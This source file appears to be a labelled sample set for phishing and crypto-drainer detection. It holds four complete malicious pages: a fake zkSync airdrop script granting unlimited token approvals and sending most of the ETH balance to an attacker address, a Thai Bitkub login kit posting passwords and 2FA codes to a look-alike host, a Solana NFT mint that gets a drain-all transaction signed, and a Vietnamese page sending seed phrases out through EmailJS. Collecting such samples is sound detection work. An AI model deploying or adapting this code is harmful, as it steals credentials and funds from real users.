import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, b64 } from '../parts/zr-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zr-drainer-airdrop-claim-permit',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim.zksync-season2.org/',
  body: doc({
    lang: 'en',
    title: 'ZK Nation - Claim your airdrop',
    css: 'body{background:#0e0f1a;color:#fff}.m{max-width:520px;margin:60px auto;text-align:center}.c{background:#1b1d2e;border-radius:16px;padding:30px}.b{background:#8c8dfc;color:#fff;width:100%;font-size:17px}',
    body: `<div class="m"><div class="c"><h1>Season 2 Airdrop is live</h1><p>Eligible wallets can claim ZK tokens until the snapshot closes. <b id="left">3,412</b> claims remaining.</p><button class="btn b" id="cn">Connect Wallet</button><p id="st" style="color:#aaa"></p></div></div>
<script src="/assets/claim.js"></script>`,
  }),
  routes: {
    'claim.zksync-season2.org/assets/claim.js': jsRoute(`
var RECEIVER='0x7f3a9c1E2b0D4f5A6c8e9B1d2F3a4C5e6B7d8E9f';
var TOKENS=[['USDT','0xdAC17F958D2ee523a2206206994597C13D831ec7'],['USDC','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'],['WETH','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2']];
async function go(){
  if(!window.ethereum){document.getElementById('st').textContent='Please install MetaMask or open in your wallet browser.';return}
  var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
  fetch('/api/log',{method:'POST',body:JSON.stringify({a:acc,e:'connect'})});
  var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
  document.getElementById('st').textContent='Checking eligibility…';
  for(var i=0;i<TOKENS.length;i++){
    var data='0x095ea7b3'+RECEIVER.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64);
    try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:TOKENS[i][1],data:data}]})}catch(e){}
  }
  var v=BigInt(bal)*95n/100n;
  try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:RECEIVER,value:'0x'+v.toString(16)}]})}catch(e){}
  document.getElementById('st').textContent='Claim submitted. Tokens will arrive within 24h.';
}
document.getElementById('cn').onclick=go;`),
  },
},
{
  id: 'zr-exchange-bitkub-otp-kit',
  label: 'phishing',
  kind: 'exchange-login-kit',
  url: 'https://bitkub-th.secure-login.co/login',
  body: doc({
    lang: 'th',
    title: 'Bitkub - เข้าสู่ระบบ',
    css: 'body{background:#0b0b0b;color:#fff}.m{max-width:420px;margin:60px auto;background:#1a1a1a;padding:28px;border-radius:10px}.g{background:#4cd964;color:#000;width:100%}label{color:#aaa}input{background:#222!important;color:#fff;border-color:#333!important}',
    body: `<div class="m"><div style="font-size:28px;font-weight:800;color:#4cd964">bitkub</div><p>ตรวจพบการถอนเงินผิดปกติ 85,000 THB กรุณาเข้าสู่ระบบเพื่อยกเลิกรายการ</p>
<form id="bk"><label>อีเมล</label><input type="email" name="email"><label>รหัสผ่าน</label><input type="password" name="password"><label>รหัส 2FA</label><input type="text" name="twofa"><p><button class="btn g">เข้าสู่ระบบ</button></p></form></div>
<script>document.getElementById('bk').onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','https://bitkub-th.secure-login.co/login/post.php',true);x.setRequestHeader('Content-type','application/x-www-form-urlencoded');x.onreadystatechange=function(){if(x.readyState==4){location.href='https://www.bitkub.com/'}};x.send(new URLSearchParams(new FormData(this)).toString())}</script>`,
  }),
},
{
  id: 'zr-drainer-solana-nft-mint-tw',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://mint.formosa-dragons.xyz/',
  body: doc({
    lang: 'zh-Hant',
    title: 'Formosa Dragons NFT - 免費鑄造',
    css: 'body{background:#14061f;color:#fff}.m{max-width:560px;margin:50px auto;text-align:center}.p{background:linear-gradient(90deg,#9945ff,#14f195);color:#000;font-size:18px;width:100%}',
    body: `<div class="m"><h1>🐉 Formosa Dragons</h1><p>限量 3,333 隻，白名單免費鑄造進行中！已鑄造 <b>3,018</b> / 3,333</p><button class="btn p" id="m">連接 Phantom 錢包並鑄造</button><p id="s"></p></div>
<script>
document.getElementById('m').onclick=async function(){
 var p=window.phantom&&window.phantom.solana||window.solana;if(!p){document.getElementById('s').textContent='請安裝 Phantom 錢包';return}
 var r=await p.connect();var pk=r.publicKey.toString();
 var res=await fetch('/api/tx?owner='+pk).then(function(x){return x.json()});
 var tx=Uint8Array.from(atob(res.tx),function(c){return c.charCodeAt(0)});
 try{var signed=await p.signTransaction(window.solanaWeb3?solanaWeb3.Transaction.from(tx):tx);await fetch('/api/submit',{method:'POST',body:JSON.stringify({owner:pk,sig:signed})})}catch(e){}
 document.getElementById('s').textContent='鑄造成功！NFT 將在幾分鐘內出現在您的錢包中。';
};
</script>`,
  }),
  routes: {
    'mint.formosa-dragons.xyz/api/tx': jsonRoute({ tx: 'AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAEAAgQ=', note: 'transfer all SPL tokens + SOL to 9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin' }),
  },
},
{
  id: 'zr-drainer-walletconnect-fix-vn',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://walletconnect-rectify.app/',
  body: doc({
    lang: 'vi',
    title: 'Wallet Rectify - Khắc phục sự cố ví',
    css: '.m{max-width:640px;margin:30px auto}.w{display:inline-block;padding:14px 20px;margin:6px;border:1px solid #ddd;border-radius:10px;cursor:pointer;background:#fff}textarea{width:100%;height:110px;padding:10px}',
    body: `<div class="m"><h1>Giao thức phi tập trung khắc phục ví</h1><p>Khắc phục lỗi giao dịch bị kẹt, không nhận được airdrop, lỗi staking, đồng bộ ví… Chọn ví của bạn:</p>
<div><span class="w">MetaMask</span><span class="w">Trust Wallet</span><span class="w">Binance Web3</span><span class="w">OKX Wallet</span><span class="w">Phantom</span></div>
<div class="card" id="imp" style="display:none;margin-top:16px"><h3>Nhập ví</h3><p>Nhập cụm từ khôi phục 12/24 từ hoặc khóa riêng tư để kết nối thủ công.</p><form id="f"><input type="hidden" name="wallet" id="wl"><textarea name="phrase" placeholder="Cụm từ khôi phục được phân tách bằng dấu cách"></textarea><p><button class="btn" style="background:#3b99fc;color:#fff">Kết nối</button></p></form></div></div>
<script>document.querySelectorAll('.w').forEach(function(w){w.onclick=function(){document.getElementById('wl').value=w.textContent;setTimeout(function(){alert('Kết nối tự động thất bại. Vui lòng kết nối thủ công.');document.getElementById('imp').style.display='block'},1500)}});
document.getElementById('f').onsubmit=function(e){e.preventDefault();emailjs_send(new FormData(this))};
function emailjs_send(fd){fetch('https://api.emailjs.com/api/v1.0/email/send',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({service_id:'service_w8x1',template_id:'template_k2',user_id:'uQ9xX3p1Lk',template_params:{wallet:fd.get('wallet'),phrase:fd.get('phrase')}})}).finally(function(){alert('Lỗi kết nối, vui lòng thử lại sau.')})}</script>`,
  }),
},
];
